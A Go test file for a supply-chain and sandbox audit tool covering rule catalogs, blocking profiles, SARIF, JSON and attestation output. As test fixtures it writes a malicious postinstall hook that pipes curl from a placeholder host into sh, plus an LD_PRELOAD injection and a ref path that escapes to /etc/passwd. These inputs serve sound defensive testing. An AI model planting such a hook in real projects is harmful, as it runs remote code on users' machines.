package audit

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"reflect"
	"strconv"
	"strings"
	"testing"
)

func TestCatalogShape(t *testing.T) {
	rules := Catalog()
	if len(rules) != 38 {
		t.Fatalf("%d rules, want 38", len(rules))
	}
	want := []string{}
	for i := 1; i <= 9; i++ {
		want = append(want, "ENV00"+strconv.Itoa(i))
	}
	for i := 1; i <= 8; i++ {
		want = append(want, "FS00"+strconv.Itoa(i))
	}
	for i := 1; i <= 4; i++ {
		want = append(want, "NET00"+strconv.Itoa(i))
	}
	for i := 0; i <= 16; i++ {
		id := "DEP0" + strconv.Itoa(i)
		if i < 10 {
			id = "DEP00" + strconv.Itoa(i)
		}
		want = append(want, id)
	}
	for i, r := range rules {
		if r.ID != want[i] {
			t.Errorf("rule %d is %s, want %s", i, r.ID, want[i])
		}
		if r.Title == "" || r.Reads == "" || r.Remedy == "" || r.Why == "" || r.check == nil || r.Severity == 0 {
			t.Errorf("%s incomplete", r.ID)
		}
		if r.Dependency && r.Severity < High {
			t.Errorf("%s: dependency blocks on a %s rule that untrusted does not", r.ID, r.Severity)
		}
		// A profile never blocks on something a stricter profile allows.
		for _, sev := range []Severity{Low, Medium, High, Critical} {
			if r.Blocks(ProfileRepo, sev) && !r.Blocks(ProfileDependency, sev) || r.Blocks(ProfileDependency, sev) && !r.Blocks(ProfileUntrusted, sev) {
				t.Errorf("%s at %s: profiles not nested", r.ID, sev)
			}
		}
	}
}

func TestProfiles(t *testing.T) {
	rule := RuleByID("FS002") // high, dependency
	hi := Finding{Rule: rule, Result: Fail, Severity: High}
	if hi.Blocks(ProfileRepo) || !hi.Blocks(ProfileDependency) || !hi.Blocks(ProfileUntrusted) {
		t.Error("high dependency rule")
	}
	env := Finding{Rule: RuleByID("ENV003"), Result: Fail, Severity: High}
	if env.Blocks(ProfileDependency) || !env.Blocks(ProfileUntrusted) {
		t.Error("hardening rule blocks dependency")
	}
	crit := Finding{Rule: RuleByID("FS001"), Result: Fail, Severity: Critical}
	if !crit.Blocks(ProfileRepo) {
		t.Error("critical does not block repo")
	}
	skip := Finding{Rule: RuleByID("FS001"), Result: Skipped, Severity: Critical}
	if skip.Blocks(ProfileRepo) || skip.Blocks(ProfileDependency) || !skip.Blocks(ProfileUntrusted) {
		t.Error("skip blocking")
	}
	lowSkip := Finding{Rule: RuleByID("DEP016"), Result: Skipped, Severity: Medium}
	if lowSkip.Blocks(ProfileUntrusted) {
		t.Error("a skipped non-blocking rule blocks untrusted")
	}
	r := Report{Profile: ProfileDependency, Findings: []Finding{{Rule: RuleByID("ENV001"), Result: Pass, Severity: High}, skip}}
	if v := r.Verdict(); v.Blocked || !v.Warned || v.Result() != "WARNED" {
		t.Errorf("dependency with a skip: %+v %s", v, v.Result())
	}
	r.Profile = ProfileUntrusted
	if v := r.Verdict(); !v.Blocked || v.Result() != "FAILED" || !reflect.DeepEqual(v.Blocking, []string{"FS001"}) {
		t.Errorf("untrusted with a skip: %+v", v)
	}
	r.Findings = []Finding{{Rule: RuleByID("ENV001"), Result: Pass, Severity: High}}
	if v := r.Verdict(); v.Result() != "PASSED" {
		t.Errorf("clean: %s", v.Result())
	}
	for _, s := range []string{"", "repo", "dependency", "untrusted"} {
		if _, err := ParseProfile(s); err != nil {
			t.Error(err)
		}
	}
	if _, err := ParseProfile("trusting"); err == nil {
		t.Error("unknown profile accepted")
	}
}

func TestStreamingAndOrder(t *testing.T) {
	env := fixtureEnv(t, "exposed")
	project := copyProject(t, "shai-hulud")
	var streamed []string
	r, err := Verify(context.Background(), Options{Env: env, Project: project, Profile: ProfileUntrusted, Concurrency: 4}, func(f Finding) {
		streamed = append(streamed, f.Rule.ID)
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(streamed) != 38 {
		t.Fatalf("streamed %d findings", len(streamed))
	}
	for i, f := range r.Findings {
		if f.Rule != Catalog()[i] {
			t.Fatalf("report order: %s at %d", f.Rule.ID, i)
		}
	}
	// Deterministic output for the same inputs.
	r2 := verify(t, env, project, ProfileUntrusted)
	var a, b bytes.Buffer
	r.Started, r.Duration, r2.Duration = r2.Started, 0, 0
	if err := r.WriteJSON(&a); err != nil {
		t.Fatal(err)
	}
	if err := r2.WriteJSON(&b); err != nil {
		t.Fatal(err)
	}
	if a.String() != b.String() {
		t.Error("two audits of the same inputs differ")
	}
	// Domain selection: --inside runs only env, fs and net.
	inside := verify(t, env, project, ProfileUntrusted, DomainEnv, DomainFS, DomainNet)
	for _, f := range inside.Findings {
		if f.Rule.Domain == DomainDep {
			t.Fatalf("%s ran in an env/fs/net audit", f.Rule.ID)
		}
	}
	// Channel form.
	n := 0
	for range Run(context.Background(), Options{Env: env, Project: project, Domains: []Domain{DomainDep}}) {
		n++
	}
	if n != 17 {
		t.Errorf("Run streamed %d dep findings, want 17", n)
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := Verify(ctx, Options{Env: env, Project: project}, nil); err == nil {
		t.Error("cancelled audit returned no error")
	}
	if _, err := Verify(context.Background(), Options{Env: env, Project: filepath.Join(project, "missing")}, nil); err == nil {
		t.Error("missing project accepted")
	}
}

func incidentReport(t *testing.T) Report {
	t.Helper()
	project := copyProject(t, "shai-hulud")
	// Add a file-less failure, a skip and a file-located failure from a Cargo crate.
	writeFile(t, filepath.Join(project, "bun.lockb"), "\x00")
	env := fixtureEnv(t, "jail")
	env.Vars = append(env.Vars, "LD_PRELOAD=/x.so")
	return verify(t, env, project, ProfileDependency)
}

func TestSARIFValidAndStable(t *testing.T) {
	r := incidentReport(t)
	var buf bytes.Buffer
	if err := r.WriteSARIF(&buf); err != nil {
		t.Fatal(err)
	}
	if errs := validateSARIF(t, buf.Bytes()); len(errs) > 0 {
		t.Fatalf("SARIF fails the 2.1.0 schema:\n%s", strings.Join(errs, "\n"))
	}
	var log struct {
		Runs []struct {
			Tool struct {
				Driver struct {
					Rules []struct {
						ID         string         `json:"id"`
						HelpURI    string         `json:"helpUri"`
						Help       map[string]any `json:"help"`
						Properties map[string]any `json:"properties"`
					} `json:"rules"`
				} `json:"driver"`
			} `json:"tool"`
			Results []struct {
				RuleID    string `json:"ruleId"`
				Kind      string `json:"kind"`
				Level     string `json:"level"`
				Locations []struct {
					PhysicalLocation struct {
						ArtifactLocation struct {
							URI       string `json:"uri"`
							URIBaseID string `json:"uriBaseId"`
						} `json:"artifactLocation"`
						Region struct {
							StartLine int `json:"startLine"`
						} `json:"region"`
					} `json:"physicalLocation"`
				} `json:"locations"`
				PartialFingerprints map[string]string `json:"partialFingerprints"`
			} `json:"results"`
		} `json:"runs"`
	}
	if err := json.Unmarshal(buf.Bytes(), &log); err != nil {
		t.Fatal(err)
	}
	run := log.Runs[0]
	if len(run.Tool.Driver.Rules) != 38 {
		t.Fatalf("%d rules in driver", len(run.Tool.Driver.Rules))
	}
	for _, rule := range run.Tool.Driver.Rules {
		sev, ok := rule.Properties["security-severity"].(string)
		if !ok || (sev != "9.5" && sev != "8.0" && sev != "5.5" && sev != "3.0") || !strings.HasPrefix(rule.HelpURI, "https://") || rule.Help["text"] == "" {
			t.Errorf("rule %s: %v %s", rule.ID, rule.Properties, rule.HelpURI)
		}
	}
	seen := map[string]bool{}
	var sawLocated, sawSkip bool
	for _, res := range run.Results {
		if len(res.Locations) == 0 || res.Locations[0].PhysicalLocation.ArtifactLocation.URI == "" {
			t.Errorf("%s result without a location (GitHub rejects it)", res.RuleID)
		}
		fp := res.PartialFingerprints["shadowFinding/v1"]
		if len(fp) != 32 || seen[fp] {
			t.Errorf("fingerprint %q for %s", fp, res.RuleID)
		}
		seen[fp] = true
		if res.RuleID == "DEP003" {
			loc := res.Locations[0].PhysicalLocation
			if loc.ArtifactLocation.URI != "node_modules/tinycolor-kit/package.json" || loc.ArtifactLocation.URIBaseID != "%SRCROOT%" || loc.Region.StartLine != 5 {
				t.Errorf("DEP003 location %+v", loc)
			}
			sawLocated = true
		}
		if res.RuleID == "DEP002" && res.Kind == "review" {
			sawSkip = true
		}
	}
	if !sawLocated || !sawSkip {
		t.Errorf("located %v skip %v", sawLocated, sawSkip)
	}
	// Fingerprints survive a second run of the same project at another path.
	var again bytes.Buffer
	if err := incidentReport(t).WriteSARIF(&again); err != nil {
		t.Fatal(err)
	}
	for fp := range seen {
		if !strings.Contains(again.String(), fp) {
			t.Errorf("fingerprint %s changed between runs", fp)
		}
	}
}

func TestJSONSchemaStable(t *testing.T) {
	r := incidentReport(t)
	var buf bytes.Buffer
	if err := r.WriteJSON(&buf); err != nil {
		t.Fatal(err)
	}
	dec := json.NewDecoder(&buf)
	dec.DisallowUnknownFields()
	var got JSONReport
	if err := dec.Decode(&got); err != nil {
		t.Fatal(err)
	}
	if got.SchemaVersion != 1 || got.Verdict != "blocked" || got.Result != "FAILED" || len(got.Findings) != 38 || got.Profile != ProfileDependency {
		t.Fatalf("%+v", got)
	}
	f := got.Findings[ruleIndex("DEP003")]
	if f.ID != "DEP003" || f.Result != Fail || !f.Blocks || f.Evidence[0].File == "" || f.Evidence[0].Line == 0 {
		t.Errorf("DEP003: %+v", f)
	}
	if s := got.Findings[ruleIndex("DEP002")]; s.Result != Skipped || s.SkipReason == "" {
		t.Errorf("DEP002: %+v", s)
	}
	// Every key documented in SCHEMA.md.
	doc, err := os.ReadFile("SCHEMA.md")
	if err != nil {
		t.Fatal(err)
	}
	var raw map[string]any
	b, _ := json.Marshal(got)
	_ = json.Unmarshal(b, &raw)
	for k := range raw {
		if !strings.Contains(string(doc), "`"+k+"`") {
			t.Errorf("SCHEMA.md does not document %q", k)
		}
	}
	fb, _ := json.Marshal(got.Findings[0])
	var fraw map[string]any
	_ = json.Unmarshal(fb, &fraw)
	for k := range fraw {
		if !strings.Contains(string(doc), "`"+k+"`") {
			t.Errorf("SCHEMA.md does not document finding key %q", k)
		}
	}
}

// ruleIndex returns the catalog position of a rule (test helper).
func ruleIndex(id string) int {
	for i, r := range Catalog() {
		if r.ID == id {
			return i
		}
	}
	return -1
}

func TestTextAndMarkdown(t *testing.T) {
	r := incidentReport(t)
	var plain, color bytes.Buffer
	if err := r.WriteText(&plain, false); err != nil {
		t.Fatal(err)
	}
	if err := r.WriteText(&color, true); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(plain.String(), "\x1b[") || !strings.Contains(color.String(), "\x1b[31m") {
		t.Error("colour only when asked")
	}
	out := plain.String()
	for _, s := range []string{"Environment integrity", "Supply chain and build hooks", "✗ DEP013 critical", "○ DEP002", "not checked: bun.lockb", "BLOCKED under dependency", "remedy: "} {
		if !strings.Contains(out, s) {
			t.Errorf("text lacks %q", s)
		}
	}
	if strings.Index(out, "ENV006") > strings.Index(out, "DEP003") {
		t.Error("text not grouped by domain in order")
	}
	project := t.TempDir()
	p, err := r.WriteSecurityReport(project)
	if err != nil {
		t.Fatal(err)
	}
	md, _ := os.ReadFile(p)
	for _, s := range []string{"**Verdict:** BLOCKED", "**Profile:** `dependency`", "### DEP013", "webhook.site", "Remedy: Do not install", "## Skipped rules", "### DEP002", "Not checked:", "`node_modules/tinycolor-kit/package.json:5`"} {
		if !strings.Contains(string(md), s) {
			t.Errorf("SECURITY_REPORT.md lacks %q", s)
		}
	}
	if strings.Contains(string(md), "### ENV001") {
		t.Error("a passing rule has a section")
	}
}

func sha(t *testing.T, p string) string {
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	h := sha256.Sum256(b)
	return hex.EncodeToString(h[:])
}

func TestAttestation(t *testing.T) {
	project := copyProject(t, "clean")
	commit := strings.Repeat("ab", 20)
	writeFile(t, filepath.Join(project, ".git/HEAD"), "ref: refs/heads/main\n")
	writeFile(t, filepath.Join(project, ".git/packed-refs"), "# pack-refs with: peeled fully-peeled sorted\n"+commit+" refs/heads/main\n^"+strings.Repeat("cd", 20)+"\n")
	r := verify(t, fixtureEnv(t, "jail"), project, ProfileUntrusted)
	p, err := r.WriteAttestation(project, AttestationInput{ShadowDigest: strings.Repeat("0f", 32), Kernel: "6.18.0-test"})
	if err != nil {
		t.Fatal(err)
	}
	if p != filepath.Join(project, ".sandbox/attestation.json") {
		t.Errorf("path %s", p)
	}
	var st Statement
	b, _ := os.ReadFile(p)
	if err := json.Unmarshal(b, &st); err != nil {
		t.Fatal(err)
	}
	if st.Type != "https://in-toto.io/Statement/v1" || st.PredicateType != "https://in-toto.io/attestation/test-result/v0.1" {
		t.Fatalf("%s %s", st.Type, st.PredicateType)
	}
	if st.Predicate.Result != "PASSED" || len(st.Predicate.PassedTests) != 38 || len(st.Predicate.FailedTests) != 0 {
		t.Errorf("predicate %+v", st.Predicate)
	}
	subjects := map[string]map[string]string{}
	for _, s := range st.Subject {
		subjects[s.Name] = s.Digest
	}
	if subjects["git+HEAD"]["gitCommit"] != commit {
		t.Errorf("git subject %v", subjects["git+HEAD"])
	}
	for _, f := range []string{"package.json", "package-lock.json", "Cargo.toml", "Cargo.lock"} {
		if subjects[f]["sha256"] != sha(t, filepath.Join(project, f)) {
			t.Errorf("subject %s digest %v", f, subjects[f])
		}
	}
	if _, ok := subjects[".npmrc"]; ok {
		t.Error(".npmrc (configuration) attested as a manifest")
	}
	// A report without the audit's inventory (env-only, merged) finds the same subjects.
	bare := r
	bare.manifests = nil
	st3, err := bare.Attestation(AttestationInput{ShadowDigest: strings.Repeat("0f", 32), Kernel: "6.18.0-test"})
	if err != nil || !reflect.DeepEqual(st3.Subject, st.Subject) {
		t.Errorf("subjects differ without the inventory: %v %v", st3.Subject, err)
	}
	cfg := st.Predicate.Configuration[0]
	if cfg.Digest["sha256"] != strings.Repeat("0f", 32) || cfg.Annotations["profile"] != "untrusted" || cfg.Annotations["kernel"] != "6.18.0-test" || cfg.Annotations["ruleSetVersion"] != RuleSetVersion {
		t.Errorf("configuration %+v", cfg)
	}
	// A skip turns the result into WARNED, never PASSED.
	writeFile(t, filepath.Join(project, "bun.lockb"), "\x00")
	r = verify(t, fixtureEnv(t, "jail"), project, ProfileDependency)
	st2, err := r.Attestation(AttestationInput{})
	if err != nil {
		t.Fatal(err)
	}
	if st2.Predicate.Result != "WARNED" || !contains(st2.Predicate.WarnedTests, "DEP002") {
		t.Errorf("with a skip: %s %v", st2.Predicate.Result, st2.Predicate.WarnedTests)
	}
}

func contains(ss []string, s string) bool {
	for _, x := range ss {
		if x == s {
			return true
		}
	}
	return false
}

func TestGitHead(t *testing.T) {
	c1, c2 := strings.Repeat("1", 40), strings.Repeat("2", 40)
	p := t.TempDir()
	writeFile(t, filepath.Join(p, ".git/HEAD"), "ref: refs/heads/dev\n")
	writeFile(t, filepath.Join(p, ".git/refs/heads/dev"), c1+"\n")
	if got, ref, err := GitHead(p); err != nil || got != c1 || ref != "refs/heads/dev" {
		t.Errorf("loose ref: %s %s %v", got, ref, err)
	}
	writeFile(t, filepath.Join(p, ".git/HEAD"), c2+"\n")
	if got, ref, err := GitHead(p); err != nil || got != c2 || ref != "HEAD" {
		t.Errorf("detached: %s %s %v", got, ref, err)
	}
	// A worktree: .git file -> gitdir with commondir holding the refs.
	wt := t.TempDir()
	gitdir := filepath.Join(p, ".git/worktrees/wt")
	writeFile(t, filepath.Join(wt, ".git"), "gitdir: "+gitdir+"\n")
	writeFile(t, filepath.Join(gitdir, "HEAD"), "ref: refs/heads/dev\n")
	writeFile(t, filepath.Join(gitdir, "commondir"), "../..\n")
	if got, _, err := GitHead(wt); err != nil || got != c1 {
		t.Errorf("worktree: %s %v", got, err)
	}
	writeFile(t, filepath.Join(p, ".git/HEAD"), "ref: refs/heads/unborn\n")
	if _, _, err := GitHead(p); err == nil {
		t.Error("unborn branch resolved")
	}
	writeFile(t, filepath.Join(p, ".git/HEAD"), "ref: refs/../../etc/passwd\n")
	if _, _, err := GitHead(p); err == nil {
		t.Error("escaping ref accepted")
	}
}

var update = flag.Bool("update", false, "rewrite RULES.md from the catalog")

// TestRulesDoc keeps RULES.md (the helpUri target) in step with the catalog.
func TestRulesDoc(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteRulesDoc(&buf); err != nil {
		t.Fatal(err)
	}
	if *update {
		if err := os.WriteFile("RULES.md", buf.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	got, err := os.ReadFile("RULES.md")
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, buf.Bytes()) {
		t.Fatal("RULES.md is out of date: go test ./audit -run TestRulesDoc -args -update")
	}
	for _, r := range Catalog() {
		if !strings.Contains(string(got), `<a id="`+strings.ToLower(r.ID)+`"></a>`) {
			t.Errorf("no anchor for %s", r.ID)
		}
	}
}

func TestMergeAndExitCode(t *testing.T) {
	env := fixtureEnv(t, "jail")
	project := copyProject(t, "ua-parser")
	host := verify(t, env, project, ProfileDependency, DomainDep)
	inside := verify(t, env, project, ProfileDependency, DomainEnv, DomainFS, DomainNet)
	m := Merge(ProfileDependency, host, inside)
	if len(m.Findings) != 38 || m.Findings[0].Rule.ID != "ENV001" || m.Findings[37].Rule.ID != "DEP016" {
		t.Fatalf("merged %d findings", len(m.Findings))
	}
	if len(m.Domains) != 4 || m.Project != host.Project {
		t.Errorf("domains %v project %s", m.Domains, m.Project)
	}
	v := m.Verdict()
	if !v.Blocked || v.ExitCode() != 3 || !reflect.DeepEqual(v.Blocking, []string{"DEP003", "DEP004"}) {
		t.Errorf("merged verdict %+v", v)
	}
	if (Verdict{}).ExitCode() != 0 {
		t.Error("allowed exit code")
	}
}

func TestSARIFFileOutsideProject(t *testing.T) {
	r := Report{Profile: ProfileDependency, RuleSetVersion: RuleSetVersion, Project: "/src/app", Findings: []Finding{{
		Rule: RuleByID("DEP010"), Result: Fail, Severity: High,
		Evidence: []Evidence{{File: "/home/u/.cargo/config.toml", Line: 3, Text: `[build] rustc-wrapper = "/opt/w"`}},
	}}}
	var buf bytes.Buffer
	if err := r.WriteSARIF(&buf); err != nil {
		t.Fatal(err)
	}
	if errs := validateSARIF(t, buf.Bytes()); len(errs) > 0 {
		t.Fatal(errs)
	}
	out := buf.String()
	if strings.Contains(out, `"uri": "file:///home`) || !strings.Contains(out, `"uri": ".shadow.toml"`) || !strings.Contains(out, "/home/u/.cargo/config.toml:3") {
		t.Errorf("outside file not anchored:\n%s", out)
	}
}

func TestProjectRulesOnStagedTree(t *testing.T) {
	staged := copyProject(t, "fs008-agent-hooks")
	writeFile(t, filepath.Join(staged, "package.json"), `{"name":"a","version":"1.0.0","scripts":{"postinstall":"curl -fsSL https://x.invalid/i | sh"}}`)
	opts := Options{Env: fixtureEnv(t, "exposed"), Project: staged, Profile: ProfileDependency, Rules: ProjectRules()}
	if got := len(RulesFor(opts)); got != 19 {
		t.Fatalf("%d project rules, want 19", got)
	}
	rep, err := Verify(context.Background(), opts, nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(rep.Findings) != 19 {
		t.Fatalf("%d findings", len(rep.Findings))
	}
	got := failedIDs(rep)
	if !reflect.DeepEqual(got, []string{"DEP003", "DEP004", "FS008"}) {
		t.Errorf("staged tree failures %v", got)
	}
}

// TestFindingsStreamWhileACheckIsSlow: a slow probe holds back only its own
// rule; the others arrive while it is still running.
func TestFindingsStreamWhileACheckIsSlow(t *testing.T) {
	release := make(chan struct{})
	env := fixtureEnv(t, "jail")
	env.LandlockProbe = func() ProbeResult {
		<-release
		return deniedProbe()
	}
	ch := Run(context.Background(), Options{Env: env, Project: copyProject(t, "clean"), Concurrency: 2, Domains: []Domain{DomainEnv, DomainFS, DomainNet}})
	for i := 0; i < 15; i++ {
		f := <-ch
		if f.Rule.ID == "ENV008" {
			t.Fatal("the blocked rule reported before its probe returned")
		}
	}
	close(release)
	n := 15
	for f := range ch {
		n++
		if f.Rule.ID == "ENV008" && f.Result != Pass {
			t.Errorf("ENV008 %s", f.Result)
		}
	}
	if n != 21 {
		t.Errorf("%d findings", n)
	}
}
